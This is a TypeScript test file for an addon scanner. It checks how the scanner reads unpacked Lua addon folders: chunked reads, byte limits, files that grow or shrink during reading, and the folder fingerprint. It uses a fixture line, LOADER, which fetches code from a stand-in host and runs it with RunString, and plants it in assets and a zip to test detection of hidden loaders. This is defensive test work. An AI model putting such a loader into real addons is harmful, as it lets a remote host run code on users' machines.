// Reading an unpacked folder: files read whole into one reused buffer or in chunks when
// large, byte limits inside a file, a file whose size changed since it was listed, and what
// the folder fingerprint follows.
import { createHash } from 'node:crypto';
import {
  appendFileSync,
  closeSync,
  mkdirSync,
  mkdtempSync,
  openSync,
  rmSync,
  truncateSync,
  writeFileSync,
} from 'node:fs';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { zipSync } from 'fflate';
import { afterAll, describe, expect, it } from 'vitest';
import { noise } from './archiveFixtures.js';
import { readFileChunks, ScratchBuffer, type FileReading } from './folderReader.js';
import { readArchive } from './index.js';
import { ReadingContext, resolveLimits } from './readingContext.js';

const MiB = 1024 * 1024;
const temp = mkdtempSync(join(tmpdir(), 'sentinelle-folder-'));
afterAll(() => rmSync(temp, { recursive: true, force: true }));

const sha256 = (b: Uint8Array): string => createHash('sha256').update(b).digest('hex');
const decode = (b: Uint8Array | undefined): string => Buffer.from(b ?? []).toString('latin1');

let folders = 0;
function folder(files: Record<string, Uint8Array | string>): string {
  const root = join(temp, `addon-${folders++}`);
  for (const [path, data] of Object.entries(files)) {
    mkdirSync(dirname(join(root, path)), { recursive: true });
    writeFileSync(join(root, path), data);
  }
  return root;
}

const LOADER = 'http.Fetch("https://x.invalid/p", function(b) RunString(b) end)\n';

describe('readArchive on a folder, file by file', () => {
  it('keeps each file its own bytes although one buffer serves every file', async () => {
    const big = `-- big\n${'print("a long line of Lua to make this file large")\n'.repeat(4000)}`;
    const files = {
      'lua/autorun/a_big.lua': big,
      'lua/autorun/b_small.lua': 'print("small")\n',
      'lua/autorun/c_mid.lua': `local t = {}\n${'t[#t + 1] = 1\n'.repeat(500)}`,
      'materials/d.vmt': `"UnlitGeneric"\n{\n}\n${LOADER}`,
      'readme.txt': 'Plain words.\n',
    };
    const contents = await readArchive(folder(files));
    for (const [path, data] of Object.entries(files)) {
      const entry = contents.entries.find((e) => e.path === path)!;
      expect(decode(entry.bytes)).toBe(data);
      expect(entry.size).toBe(data.length);
      if (entry.kind !== 'text') expect(entry.sha256).toBe(sha256(Buffer.from(data)));
    }
  });

  it('reads a file larger than the whole-file size in chunks, Lua across a chunk border included', async () => {
    // 17 MiB of noise with Lua across the 17th MiB border, then a 17 MiB Lua file.
    const asset = noise(17 * MiB + 5000, 1);
    asset.write(LOADER, 17 * MiB - 30, 'latin1');
    const lua = Buffer.alloc(17 * MiB + 3, 'print(1)\n', 'latin1');
    const root = folder({ 'sound/big.wav': asset, 'lua/autorun/big.lua': lua });

    const contents = await readArchive(root);
    const wav = contents.entries.find((e) => e.path === 'sound/big.wav')!;
    expect(wav).toMatchObject({ kind: 'lua_in_asset', size: asset.length });
    expect(decode(wav.bytes)).toContain(LOADER.trim());
    const big = contents.entries.find((e) => e.path === 'lua/autorun/big.lua')!;
    expect(big).toMatchObject({ kind: 'lua', size: lua.length, sha256: sha256(lua) });
    expect(big.bytes?.length).toBe(lua.length);
    expect(contents.limitsReached).toEqual([]);

    // Within the total limit, a large file is cut where the limit falls, like a small one.
    const limited = await readArchive(root, { maxTotalInflatedBytes: 20 * MiB });
    expect(limited.limitsReached).toEqual(['maxTotalInflatedBytes']);
    const first = limited.entries[0]!;
    expect(first).toMatchObject({ path: 'lua/autorun/big.lua', size: lua.length });
    expect(limited.entries[1]).toMatchObject({
      path: 'sound/big.wav',
      size: 20 * MiB - lua.length,
    });
  });

  it('cuts a small file at the total limit too', async () => {
    const root = folder({ 'lua/a.lua': 'x'.repeat(3000), 'lua/b.lua': 'y'.repeat(3000) });
    const contents = await readArchive(root, { maxTotalInflatedBytes: 4000 });
    expect(contents.entries.map((e) => [e.path, e.size])).toEqual([
      ['lua/a.lua', 3000],
      ['lua/b.lua', 1000],
    ]);
    expect(contents.limitsReached).toEqual(['maxTotalInflatedBytes']);
  });
});

describe('files that are waited for', () => {
  it('reads an archive inside a folder before the files after it', async () => {
    const inner = zipSync({ 'lua/autorun/x.lua': Buffer.from(LOADER) });
    const files = { 'a.txt': 'first\n', 'b/inner.zip': inner, 'c.lua': 'print(1)\n' };
    const contents = await readArchive(folder(files));
    expect(contents.entries.map((e) => [e.path, e.kind])).toEqual([
      ['a.txt', 'text'],
      ['b/inner.zip', 'asset'],
      ['b/inner.zip/lua/autorun/x.lua', 'lua'],
      ['c.lua', 'lua'],
    ]);
    const changed = zipSync({ 'lua/autorun/x.lua': Buffer.from(`${LOADER}-- more\n`) });
    const other = await readArchive(folder({ ...files, 'b/inner.zip': changed }));
    expect(other.sha256).not.toBe(contents.sha256);
    expect((await readArchive(folder(files))).sha256).toBe(contents.sha256);
  });
});

describe('text caps on files read whole', () => {
  it('cut a file at the per-entry and total text limits as a streamed entry is cut', async () => {
    const files = {
      'lua/a.lua': `-- a\n${'print(1)\n'.repeat(300)}`,
      'lua/b.lua': `-- b\n${'print(2)\n'.repeat(300)}`,
      'notes.txt': `${LOADER}${'local x = 1\n'.repeat(200)}`,
    };
    const root = folder(files);
    const zipped = zipSync(
      Object.fromEntries(Object.entries(files).map(([path, data]) => [path, Buffer.from(data)])),
    );
    for (const limits of [{ maxTextEntryBytes: 1000 }, { maxKeptTextBytes: 3000 }]) {
      const read = await readArchive(root, limits);
      const streamed = await readArchive(zipped, limits);
      const summary = (c: typeof read): unknown => [
        c.entries.map((e) => ({ ...e, bytes: decode(e.bytes) })),
        c.findings,
        c.limitsReached,
      ];
      expect(summary(read)).toEqual(summary(streamed));
      expect(read.limitsReached).toEqual(Object.keys(limits));
      expect(read.entries.map((e) => e.bytes?.length)).toEqual(
        'maxTextEntryBytes' in limits ? [1000, 1000, 1000] : [2705, 295, 0],
      );
    }
  });
});

describe('readFileChunks past the whole-file size, and on a file that changes while read', () => {
  const data = Buffer.from(`${LOADER}${'-- more Lua\n'.repeat(30_000)}`); // ~360 KB
  const small = 64 * 1024; // a scratch limit that makes `data` a large file

  function openWith(content: Buffer, name: string) {
    const path = join(temp, name);
    writeFileSync(path, content);
    const ctx = new ReadingContext(resolveLimits());
    const reading: FileReading = { length: 0 };
    const fd = openSync(path, 'r');
    const chunks = readFileChunks(ctx, fd, 'x.lua', reading, new ScratchBuffer(small));
    const rest = (): Buffer[] => [...chunks].map((c) => Buffer.from(c));
    return { path, ctx, reading, chunks, rest, close: () => closeSync(fd) };
  }

  it('reads a file larger than the scratch limit in chunks, hashed as they pass', () => {
    const file = openWith(data, 'large.lua');
    try {
      const pieces = file.rest();
      expect(pieces.map((p) => p.length)).toEqual([small, data.length - small]);
      expect(Buffer.concat(pieces).equals(data)).toBe(true);
      expect(file.reading.whole).toBeUndefined();
      expect(file.reading.length).toBe(data.length);
      expect(file.reading.hash?.digest('hex')).toBe(sha256(data));
      expect(file.ctx.inflatedBytes).toBe(data.length);
    } finally {
      file.close();
    }
  });

  it('reads on to the new end of a file that grows while read', () => {
    const file = openWith(data, 'growing.lua');
    try {
      const head = Buffer.from(file.chunks.next().value as Uint8Array);
      const more = Buffer.from('\nprint("appended while read")\n');
      appendFileSync(file.path, more);
      const all = Buffer.concat([head, ...file.rest()]);
      expect(all.equals(Buffer.concat([data, more]))).toBe(true);
      expect(file.reading.length).toBe(all.length);
      expect(file.reading.hash?.digest('hex')).toBe(sha256(all));
    } finally {
      file.close();
    }
  });

  it('stops at the new end of a file that shrinks while read', () => {
    const file = openWith(data, 'shrinking.lua');
    try {
      const head = Buffer.from(file.chunks.next().value as Uint8Array);
      truncateSync(file.path, 100_000);
      const all = Buffer.concat([head, ...file.rest()]);
      expect(all.equals(data.subarray(0, 100_000))).toBe(true);
      expect(file.reading.length).toBe(100_000);
    } finally {
      file.close();
    }
  });

  it('reads files around the scratch buffer size whole (a short read ends a file)', () => {
    // The scratch buffer starts at 64 KiB: a file that fills it exactly must still be read
    // on, and one a byte shorter is over after one read.
    const sizes = [small - 1, small, small + 1, 2 * small];
    const content = Buffer.concat([data, data]);
    for (const size of sizes) {
      const path = join(temp, `around-${size}.lua`);
      writeFileSync(path, content.subarray(0, size));
      const fd = openSync(path, 'r');
      try {
        const reading: FileReading = { length: 0 };
        const ctx = new ReadingContext(resolveLimits());
        const pieces = [...readFileChunks(ctx, fd, 'x.lua', reading, new ScratchBuffer())];
        expect(pieces).toHaveLength(1);
        expect(Buffer.from(pieces[0]!).equals(content.subarray(0, size))).toBe(true);
        expect(reading.length).toBe(size);
      } finally {
        closeSync(fd);
      }
    }
  });

  it('gives a small file in one piece of the scratch buffer', () => {
    const file = openWith(data.subarray(0, 1000), 'small.lua');
    try {
      const pieces = file.rest();
      expect(pieces).toHaveLength(1);
      expect(file.reading.whole?.equals(data.subarray(0, 1000))).toBe(true);
      expect(file.reading.hash).toBeUndefined();
    } finally {
      file.close();
    }
  });
});

describe('the folder fingerprint', () => {
  it('follows paths, the content of what is analysed, and the size of plain assets', async () => {
    const files = {
      'lua/autorun/a.lua': 'print(1)\n',
      'materials/a.vmt': '"UnlitGeneric"\n{\n}\n',
      'models/a.mdl': noise(10_000, 2),
    };
    const root = folder(files);
    const fingerprint = async (): Promise<string> => (await readArchive(root)).sha256;
    const original = await fingerprint();
    expect(await fingerprint()).toBe(original);

    const edits: [string, Uint8Array | string, boolean][] = [
      ['lua/autorun/a.lua', 'print(2)\n', true],
      ['materials/a.vmt', '"UnlitGeneric"\n{\n}\n\n', true],
      // Same size, other bytes: a plain asset is known by its size (see docs/decisions.md).
      ['models/a.mdl', noise(10_000, 3), false],
      ['models/a.mdl', noise(10_001, 2), true],
    ];
    for (const [path, data, counts] of edits) {
      writeFileSync(join(root, path), data);
      expect((await fingerprint()) !== original).toBe(counts);
      writeFileSync(join(root, path), files[path as keyof typeof files]);
      expect(await fingerprint()).toBe(original);
    }

    // An asset hiding Lua is analysed, so its bytes count.
    const hidden = Buffer.concat([noise(5000, 4), Buffer.from(LOADER.repeat(2))]);
    writeFileSync(join(root, 'models/a.mdl'), hidden);
    const withLua = await fingerprint();
    hidden[10] = hidden[10] === 0x90 ? 0x91 : 0x90;
    writeFileSync(join(root, 'models/a.mdl'), hidden);
    expect(await fingerprint()).not.toBe(withLua);
  });
});
